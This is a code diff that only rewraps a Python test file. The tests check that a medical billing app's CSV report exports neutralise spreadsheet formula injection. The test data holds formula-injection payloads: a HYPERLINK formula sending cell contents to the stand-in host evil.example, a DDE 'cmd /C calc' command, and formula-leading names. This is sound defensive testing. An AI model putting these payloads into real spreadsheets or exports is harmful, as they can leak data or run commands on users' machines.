@@ -20,7 +20,10 @@ def _cells(text: str) -> list[list[str]]:
 
 
 def test_formula_text_is_quoted_and_numbers_are_not():
-    assert neutralise('=HYPERLINK("http://evil.example/?"&A1,"Click")') == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert (
+        neutralise('=HYPERLINK("http://evil.example/?"&A1,"Click")')
+        == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    )
     for start in ("+", "-", "@", "\t", "\r"):
         assert neutralise(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
     assert neutralise(Decimal("-12.50")) == Decimal("-12.50")  # a refund stays a number that sums
@@ -46,21 +49,51 @@ def test_report_export_neutralises_an_insurer_named_like_a_formula(practice, mak
     user = make_member(practice, Role.BILLING)
     doctor = Membership.objects.get(practice=practice, user=make_member(practice, Role.PRACTITIONER))
     insurer = insurer_contact(practice, "bup", name='=HYPERLINK("http://evil.example","Bupa")')
-    patient = patients.create_patient(practice=practice, data={"first_name": "@SUM(1+1)", "last_name": "-2+3",
-                                                               "date_of_birth": dt.date(1980, 4, 12)})
-    insurance = patients.add_relationship(patient=patient, data={
-        "relationship_type": "insurance", "related_contact": insurer, "related_patient": None,
-        "registration_number": "10000001"})
-    product = products.create_product(practice=practice, data={
-        "product_type": "appointment", "name": "Consultation", "procedure_type": "", "duration_minutes": 30,
-        "list_price": Decimal("180.00"), "vat_treatment": "exempt", "industry_standard_code": "", "procedure_code": ""})
-    invoice = billing.create_invoice(practice=practice, data={
-        "bill_to": "insurer", "patient": patient, "insurance": insurance, "practitioner": doctor,
-        "invoice_date": dt.date(2026, 1, 5)}, lines=[{"product": product, "service_date": dt.date(2026, 1, 5), "quantity": 1}])
+    patient = patients.create_patient(
+        practice=practice, data={"first_name": "@SUM(1+1)", "last_name": "-2+3", "date_of_birth": dt.date(1980, 4, 12)}
+    )
+    insurance = patients.add_relationship(
+        patient=patient,
+        data={
+            "relationship_type": "insurance",
+            "related_contact": insurer,
+            "related_patient": None,
+            "registration_number": "10000001",
+        },
+    )
+    product = products.create_product(
+        practice=practice,
+        data={
+            "product_type": "appointment",
+            "name": "Consultation",
+            "procedure_type": "",
+            "duration_minutes": 30,
+            "list_price": Decimal("180.00"),
+            "vat_treatment": "exempt",
+            "industry_standard_code": "",
+            "procedure_code": "",
+        },
+    )
+    invoice = billing.create_invoice(
+        practice=practice,
+        data={
+            "bill_to": "insurer",
+            "patient": patient,
+            "insurance": insurance,
+            "practitioner": doctor,
+            "invoice_date": dt.date(2026, 1, 5),
+        },
+        lines=[{"product": product, "service_date": dt.date(2026, 1, 5), "quantity": 1}],
+    )
     billing.issue_invoice(invoice=invoice)
     client = client_for(user)
-    for url in ("/reports/aged-debt/?format=csv", "/reports/aged-debt/?format=csv&by=patient",
-                "/reports/bills/?format=csv", "/reports/payments/?format=csv", "/reports/days-to-payment/?format=csv"):
+    for url in (
+        "/reports/aged-debt/?format=csv",
+        "/reports/aged-debt/?format=csv&by=patient",
+        "/reports/bills/?format=csv",
+        "/reports/payments/?format=csv",
+        "/reports/days-to-payment/?format=csv",
+    ):
         rows = _cells(client.get(url).content.decode())
         for row in rows:
             for cell in row:
